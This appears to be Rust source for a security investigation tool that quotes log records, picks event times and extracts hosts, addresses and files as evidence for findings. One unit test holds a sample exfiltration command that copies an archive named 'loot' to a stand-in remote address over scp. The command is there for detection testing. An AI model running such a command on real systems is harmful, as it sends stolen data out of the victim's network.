//! The citations, times and entities of a finding.

use std::collections::BTreeSet;

use casebook_protocol::{CallId, Citation, Entity, EntityKind, EventTime, Locator, one_line};
use casebook_trust::claim::{self, Corpus};

use crate::analyst::account;
use crate::analyst::rec::Rec;
use crate::analyst::seed::PATTERNS;
use casebook_evidence::facet::{Class, Facet};
use casebook_evidence::programs::{brought, packages};

/// The time of the main record, unless another one has a stronger basis.
pub(super) fn time(cited: &[&Rec]) -> Option<EventTime> {
    cited.iter().rev().filter_map(|rec| rec.event_time()).max_by_key(|time| time.basis)
}

/// Quotes the part of the record with most of the values in the claim.
pub(in crate::analyst) fn cite(rec: &Rec) -> Citation {
    const LENGTH: usize = 320;
    const BEFORE: usize = 80;
    let wire = if matches!(rec.class(), Class::NetworkConnection | Class::TlsSession) { 5 } else { 2 };
    let telling = [
        (Facet::Command, 5),
        (Facet::Url, 4),
        (Facet::Object, 3),
        (Facet::Action, 3),
        (Facet::DomainName, 3),
        (Facet::DstIp, wire),
        (Facet::SrcIp, 1),
        (Facet::Process, 1),
        (Facet::User, 1),
    ];
    let value = |facet| rec.facets.get(facet).filter(|value| value.len() >= 3);
    let places = telling.map(|(facet, tells)| Some((rec.raw.find(value(facet)?)?, tells)));
    let places = places.iter().flatten();
    let values_from = |from: &usize| -> usize {
        let part = *from..*from + LENGTH - BEFORE;
        places.clone().filter(|(at, _)| part.contains(at)).map(|(_, tells)| tells).sum()
    };
    // If several parts have as many values, choose the one around the most important value.
    let parts = places.clone().rev().map(|(at, _)| at.saturating_sub(BEFORE));
    let from = parts.max_by_key(values_from).unwrap_or(0);
    let quote: String = rec.raw.char_indices().skip_while(|(at, _)| *at < from).map(|(_, c)| c).take(LENGTH).collect();
    Citation::Literal { call: rec.call.clone(), at: Locator::Pointer(rec.pointer.clone()), quote }
}

/// A number in the result of a call.
pub(in crate::analyst) fn cite_count(call: &CallId, pointer: String, value: u64) -> Citation {
    Citation::Count { call: call.clone(), at: Locator::Pointer(pointer), value, again: None }
}

/// True if the corpus states all that the text does.
pub(in crate::analyst) fn states(corpus: &Corpus, text: &str) -> bool {
    claim::faults(text, corpus, &[]).is_empty()
}

/// True for names that exist on every system.
fn everywhere(kind: EntityKind, name: &str) -> bool {
    const FOLDERS: &[&str] = &["/usr/bin/", "/usr/sbin/", "/usr/lib/", "/bin/", "/sbin/", "/lib/", "hklm\\", "hku\\"];
    let lower = name.to_lowercase();
    match kind {
        EntityKind::User => account::of_system(name),
        EntityKind::File => {
            FOLDERS.iter().any(|f| lower.starts_with(f)) || lower.contains(":\\windows\\") && !brought(name)
        }
        _ => false,
    }
}

pub(in crate::analyst) fn entities(cited: &[&Rec], corpus: &Corpus) -> Vec<Entity> {
    const WHAT: [(Facet, EntityKind); 8] = [
        (Facet::Host, EntityKind::Host),
        (Facet::User, EntityKind::User),
        (Facet::SrcIp, EntityKind::Address),
        (Facet::DstIp, EntityKind::Address),
        (Facet::Process, EntityKind::Process),
        (Facet::Object, EntityKind::File),
        (Facet::DomainName, EntityKind::Name),
        (Facet::UserAgent, EntityKind::Other),
    ];
    let mut all: BTreeSet<Entity> = BTreeSet::new();
    for rec in cited {
        for (facet, kind) in WHAT {
            let value = rec.facets.get(facet).filter(|v| v.len() <= 300);
            if let Some(value) = value.filter(|v| !everywhere(kind, v)) {
                // A program in a folder where any user may write was probably brought there, so treat it as a
                // file.
                let kind = if kind == EntityKind::Process && brought(value) { EntityKind::File } else { kind };
                all.insert(Entity { kind, value: value.to_owned() });
            }
        }
        let command = rec.facets.get(Facet::Command).unwrap_or_default();
        // The network knows the activity by the remote ends in a command.
        for (pattern, kind) in PATTERNS.iter().filter(|(_, k)| matches!(k, EntityKind::Address | EntityKind::Name)) {
            let found = pattern.find_iter(command).map(|hit| hit.as_str().to_owned());
            all.extend(found.map(|value| Entity { kind: *kind, value }));
        }
        all.extend(packages(command).into_iter().map(|value| Entity { kind: EntityKind::Name, value }));
        let addresses = rec.fields.values().filter(|v| v.parse::<std::net::Ipv4Addr>().is_ok());
        all.extend(addresses.take(4).map(|v| Entity { kind: EntityKind::Address, value: v.clone() }));
    }
    all.into_iter().filter(|e| corpus.has_name(&e.value) && !one_line(&e.value, 300).is_empty()).take(16).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use casebook_evidence::facet::Facets;

    #[test]
    fn what_a_command_reaches_is_named_and_what_every_system_has_is_not() {
        let fields = [
            ("Image", "C:\\Users\\mara\\a.exe"),
            ("CommandLine", "scp loot.7z mara@192.0.2.77:~"),
            ("User", "NT AUTHORITY\\SYSTEM"),
            ("TargetFilename", "C:\\Windows\\System32\\lsass.exe"),
        ];
        let rec = Rec::with(&fields);
        let named = entities(&[&rec], &crate::analyst::rec::corpus(&[&rec]));
        let named: Vec<_> = named.iter().map(|e| (e.kind, e.value.as_str())).collect();
        assert_eq!(named, [(EntityKind::Address, "192.0.2.77"), (EntityKind::File, "C:\\Users\\mara\\a.exe")]);
    }

    /// The head of a record names the sensor, which no claim mentions.
    #[test]
    fn a_connection_is_quoted_where_its_addresses_stand() {
        let fields = [("action", "network_connect"), ("src_ip", "192.0.2.5"), ("dst_ip", "198.51.100.7")];
        let raw = format!("network_connect {} 192.0.2.5 198.51.100.7", "head ".repeat(80));
        let fields = fields.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
        let facets = Facets::read(&fields, &raw);
        let mut rec = Rec::of(CallId::new("r1.investigate.network.t1.0").unwrap(), fields, facets);
        assert_eq!(rec.class(), Class::NetworkConnection);
        rec.raw = raw;
        let Citation::Literal { quote, .. } = cite(&rec) else { panic!("a piece of the record") };
        assert!(quote.contains("192.0.2.5 198.51.100.7"), "{quote}");
    }
}
